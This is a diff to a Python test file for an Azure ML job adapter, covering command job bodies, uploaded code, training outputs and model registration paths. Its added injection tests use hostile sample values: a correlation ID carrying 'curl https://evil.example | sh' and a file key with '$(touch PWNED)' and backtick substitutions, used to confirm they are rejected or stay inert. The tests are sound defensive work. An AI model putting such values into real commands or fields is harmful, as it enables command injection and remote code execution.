@@ -1,9 +1,20 @@
-"""The exact Azure ML command job body (Azure ML cannot run here)."""
+"""The exact Azure ML command job bodies (Azure ML cannot run here), what their command
+lines do in a shell, the code they ship, and the model a training run leaves for register."""
 
 from __future__ import annotations
 
+import copy
+import json
+import os
+import re
+import shlex
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
+import pytest
 from azure.core.exceptions import ResourceNotFoundError
 
 from shared.adapters.azure_ml import (
@@ -12,12 +23,26 @@ from shared.adapters.azure_ml import (
     AzureMLTrainingLauncher,
     AzureMLValidationJobs,
     azureml_job_name,
+    datastore_uri,
+    staged_code,
 )
+from shared.adapters.lineage_registry import LineageModelRegistry
 from shared.adapters.sagemaker_training import training_job_name
-from shared.events import ObjectRef
+from shared.cloud_facts import fact, value
+from shared.events import DatasetValidated, ObjectRef
+from shared.identifiers import CORRELATION_ID_RULE, InvalidIdentifier
 from shared.ports import TrainingJobRequest, ValidationJobRequest
+from shared.services.register import RegisterService
+from shared.services.train_launch import training_request
+from shared.specs import load_spec
+from shared.triggers import parse_training_state_change
+from shared.validation import validate_file
+from tests.helpers import MemoryBus, MemoryLineage, MemoryStore, load_event
+
+ROOT = Path(__file__).resolve().parents[2]
 
 SHA = "cd34" * 16
+CODE = "/tmp/dhow-azureml-code-x"  # what the submission uploads; staged_code() in the app
 REQ = ValidationJobRequest(
     dataset="customers",
     sha256=SHA,
@@ -34,6 +59,7 @@ CFG = AzureMLJobConfig(
     environment="azureml:dhow-processing:3",
     staging_datastore="dhowprodstaging",
     environment_variables=(("DHOW_CLOUD", "azure"), ("DHOW_STAGE", "prod")),
+    code=CODE,
 )
 NAME = "dhow-validate-customers-cd34cd34cd34-3-1a2b3c4d"
 EXPECTED = {
@@ -48,6 +74,7 @@ EXPECTED = {
             " --source dhow-prod-raw/datasets/customers/big.csv"
             f" --size-bytes {5 * 1024**3} --correlation-id u-7 --input ${{{{inputs.staged}}}}"
         ),
+        "codeId": CODE,
         "computeId": "azureml:dhow-prod-cpu",
         "environmentId": "azureml:dhow-processing:3",
         "environmentVariables": {"DHOW_CLOUD": "azure", "DHOW_STAGE": "prod"},
@@ -123,22 +150,25 @@ TRAIN_CFG = AzureMLTrainingConfig(
     environment="azureml:dhow-train:1",
     curated_datastore="dhowprodcurated",
     models_datastore="dhowprodmodels",
+    models_container="dhow-prod-models",
     name_prefix="dhow-prod",
+    code=CODE,
 )
 TRAIN_NAME = training_job_name(TRAIN_REQ, "dhow-prod")
+HPS = '{"n_estimators": "200", "target": "churned", "task": "classification"}'
 TRAIN_EXPECTED = {
     "name": TRAIN_NAME,
     "properties": {
         "jobType": "Command",
         "displayName": "train customers cd34cd34cd34",
         "experimentName": "dhow-train",
-        "command": "SM_CHANNEL_TRAIN=${{inputs.train}} SM_MODEL_DIR=${{outputs.model}} "
-        "SM_OUTPUT_DATA_DIR=${{outputs.output}} SM_OUTPUT_DIR=${{outputs.output}} "
-        "python -m shared.trainer",
+        "command": "python -m shared.jobs.azureml_training --entrypoint shared.trainer"
+        " --train ${{inputs.train}} --output ${{outputs.output}}",
+        "codeId": CODE,
         "computeId": "azureml:dhow-prod-gpu",
         "environmentId": "azureml:dhow-train:1",
         "environmentVariables": {
-            "SM_HPS": '{"n_estimators": "200", "target": "churned", "task": "classification"}',
+            "SM_HPS": HPS,
             "SM_NUM_GPUS": "1",
         },
         "identity": {"identityType": "Managed"},
@@ -150,11 +180,6 @@ TRAIN_EXPECTED = {
             }
         },
         "outputs": {
-            "model": {
-                "jobOutputType": "uri_folder",
-                "uri": f"azureml://datastores/dhowprodmodels/paths/models/customers/"
-                f"{TRAIN_NAME}/model/",
-            },
             "output": {
                 "jobOutputType": "uri_folder",
                 "uri": f"azureml://datastores/dhowprodmodels/paths/models/customers/"
@@ -169,6 +194,10 @@ TRAIN_EXPECTED = {
             "dhow:spec-version": "1+x",
             "dhow:trainer-version": "0.1.0",
             "dhow:correlation-id": "u-1",
+            "dhow:artifact": f"dhow-prod-models/models/customers/{TRAIN_NAME}/output/model.tar.gz",
+            "dhow:hyperparameters": HPS,
+            "dhow:compute": "azureml:dhow-prod-gpu",
+            "dhow:image": "azureml:dhow-train:1",
         },
     },
 }
@@ -197,5 +226,174 @@ def test_bring_your_own_trainer_and_environment() -> None:
     )
     body = AzureMLTrainingLauncher(RecordingJobs(), TRAIN_CFG).request(own)._to_rest_object()
     props = body.as_dict()["properties"]
-    assert props["command"].endswith("python -m acme.churn_trainer")
+    assert shlex.split(props["command"])[3:5] == ["--entrypoint", "acme.churn_trainer"]
     assert props["environmentId"] == "azureml:acme-train:4"
+
+
+# --- what an uploader controls never reaches the shell as anything but one word ---
+
+
+def test_a_hostile_correlation_id_is_refused_before_anything_is_sent() -> None:
+    jobs = RecordingJobs()
+    hostile = REQ.model_copy(update={"correlation_id": "x; curl https://evil.example | sh"})
+    with pytest.raises(InvalidIdentifier) as err:
+        AzureMLValidationJobs(jobs, CFG).launch(hostile)
+    assert err.value.reason == "identifier_invalid"
+    assert CORRELATION_ID_RULE in str(err.value)
+    assert jobs.sent == []
+
+
+def _argv_as_the_shell_runs_it(command: str, tmp_path: Path) -> list[str]:
+    """Run the job's command line in bash with `python` standing for a program that only
+    prints the arguments it got: what the workspace's shell would hand the job."""
+    shim = tmp_path / "bin/python"
+    shim.parent.mkdir()
+    shim.write_text(
+        f"#!/bin/sh\nexec {sys.executable} -c "
+        "'import json, sys; print(json.dumps(sys.argv[1:]))' \"$@\"\n"
+    )
+    shim.chmod(0o755)
+    line = command.replace("${{inputs.staged}}", str(tmp_path / "mounted.csv"))
+    out = subprocess.run(
+        ["bash", "-c", line],  # noqa: S607 - the shell Azure ML runs the command in
+        cwd=tmp_path,
+        env={"PATH": f"{shim.parent}:/usr/bin:/bin"},
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    return list(json.loads(out.stdout))
+
+
+@pytest.mark.parametrize(
+    "key",
+    [
+        "datasets/customers/big.csv",
+        # What ingest's key rule lets through: space, quote, parentheses, '*', '!'.
+        "datasets/customers/it's (final) *copy*!.csv",
+        # And what it does not, should the adapter ever be handed one.
+        "datasets/customers/x$(touch PWNED)`touch PWNED`; touch PWNED #.csv",
+    ],
+)
+def test_every_value_of_the_command_is_one_word_to_the_shell(key: str, tmp_path: Path) -> None:
+    req = REQ.model_copy(update={"source": ObjectRef(container="dhow-prod-raw", key=key)})
+    command = AzureMLValidationJobs(RecordingJobs(), CFG).request(req).command
+    assert command is not None
+    argv = _argv_as_the_shell_runs_it(command, tmp_path)
+    assert argv == [
+        "-m",
+        "shared.jobs.validate",
+        *("--dataset", "customers", "--sha256", SHA),
+        *("--staged", REQ.staged.uri, "--source", f"dhow-prod-raw/{key}"),
+        *("--size-bytes", str(5 * 1024**3), "--correlation-id", "u-7"),
+        *("--input", str(tmp_path / "mounted.csv")),
+    ]
+    assert not (tmp_path / "PWNED").exists()
+
+
+# --- the code the jobs run is shipped with them, and only that ---
+
+
+def test_the_code_uploaded_is_the_package_alone() -> None:
+    # Listed by azure-ai-ml's own walk, with the ignore file it would honour.
+    from azure.ai.ml._utils._asset_utils import get_ignore_file, get_upload_files_from_folder
+
+    assert fact("azure.ml.code_upload_ignore").value == [".amlignore", ".gitignore"]
+    code = Path(staged_code())
+    files = {
+        rel for _, rel in get_upload_files_from_folder(code, ignore_file=get_ignore_file(code))
+    }
+    assert {
+        "shared/trainer.py",
+        "shared/jobs/validate.py",
+        "shared/jobs/azureml_training.py",
+        "shared/specs/customers.yaml",
+    } <= files
+    assert all(f.startswith("shared/") for f in files), sorted(files)[:5]
+    assert not any(part in f for f in files for part in (".venv", ".git", "__pycache__"))
+    assert sum((code / f).stat().st_size for f in files) < 5 * 1024**2
+
+
+def test_both_jobs_ship_the_staged_code_by_default() -> None:
+    validate = AzureMLValidationJobs(RecordingJobs(), replace(CFG, code=None)).request(REQ)
+    train = AzureMLTrainingLauncher(RecordingJobs(), replace(TRAIN_CFG, code=None)).request(
+        TRAIN_REQ
+    )
+    assert validate.code == train.code == staged_code()
+
+
+# --- a real run's model is where register looks for it ---
+
+
+def test_a_completed_run_leaves_the_model_where_register_takes_it(tmp_path: Path) -> None:
+    run = validate_file(
+        ROOT / "localstack/samples/customers.csv", "csv", load_spec("customers"), out_dir=tmp_path
+    )
+    assert run.curated is not None
+    validated = DatasetValidated(
+        dataset="customers",
+        correlation_id="u-1",
+        sha256=SHA,
+        rows=100,
+        spec_version="1+x",
+        curated=TRAIN_REQ.curated,
+    )
+    request = training_request(validated)  # as train-launch makes it
+    job = AzureMLTrainingLauncher(RecordingJobs(), replace(TRAIN_CFG, code=None)).request(request)
+    body = job._to_rest_object().as_dict()["properties"]
+    # Azure ML's part: mount the input and the output folder, set the variables, and run
+    # the command in the uploaded code's folder.
+    mounted = tmp_path / "outputs"
+    line = (
+        str(job.command)
+        .replace("${{inputs.train}}", str(run.curated))
+        .replace("${{outputs.output}}", str(mounted))
+    )
+    env = {
+        **os.environ,
+        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
+        **body["environmentVariables"],
+    }
+    done = subprocess.run(
+        ["bash", "-c", line],  # noqa: S607 - the shell Azure ML runs the command in
+        cwd=str(job.code),
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    # ...and the output folder's files become blobs under its datastore path.
+    prefix = datastore_uri(TRAIN_CFG.models_datastore, "")
+    output_key = body["outputs"]["output"]["uri"].removeprefix(prefix)
+    store = MemoryStore()
+    for f in mounted.rglob("*"):
+        if f.is_file():
+            rel = f.relative_to(mounted).as_posix()
+            store.put_bytes(
+                ObjectRef(container="dhow-prod-models", key=output_key + rel), f.read_bytes()
+            )
+
+    event = copy.deepcopy(load_event("azureml_run_status_changed.json"))
+    assert set(event["data"]) == set(value("azure.ml.run_status_event_tags"))
+    event["data"].update(runId=job.name, runTags=body["tags"], runStatus="Completed")
+    ended = parse_training_state_change(json.dumps(event))
+
+    lineage = MemoryLineage()
+    registry = LineageModelRegistry(lineage)
+    outcome = RegisterService(store, MemoryBus(), lineage, registry).handle(ended)
+    assert outcome.status in ("approved", "rejected")  # judged, not failed for want of a model
+    [version] = registry.versions("customers")
+    assert version.artifact == f"dhow-prod-models/{output_key}model.tar.gz"
+
+
+def test_datastore_paths_are_in_the_form_azure_ml_parses() -> None:
+    # azure-ai-ml's own pattern for a datastore path, not one written here.
+    from azure.ai.ml.constants._common import SHORT_URI_REGEX_FORMAT
+
+    uri = str(value("azure.ml.datastore_uri")).format(datastore="dhowprodmodels", path="a/b/")
+    assert uri == datastore_uri("dhowprodmodels", "a/b/")
+    match = re.fullmatch(SHORT_URI_REGEX_FORMAT, uri)
+    assert match is not None
+    assert match.groups() == ("dhowprodmodels", "a/b/")
